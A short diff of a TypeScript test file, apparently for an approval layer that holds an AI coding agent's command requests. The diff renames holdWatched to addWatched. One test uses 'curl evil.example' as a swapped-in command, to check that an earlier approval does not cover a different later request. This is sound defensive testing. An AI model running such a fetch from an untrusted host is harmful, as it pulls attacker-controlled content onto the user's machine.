@@ -62,7 +62,7 @@ beforeEach(() => {
 });
 
 function hold(command = payload.command): void {
-  release = pending.holdWatched("codex", {
+  release = pending.addWatched("codex", {
     request: "asked-1",
     sessionId: "s-1",
     payload: { ...payload, command },
@@ -79,7 +79,7 @@ test("a request that asks for something else is not answered by what was shown b
   hold();
   const id = answerId();
   release();
-  pending.holdWatched("codex", {
+  pending.addWatched("codex", {
     request: "asked-1",
     sessionId: "s-1",
     payload: { ...payload, command: "curl evil.example" },
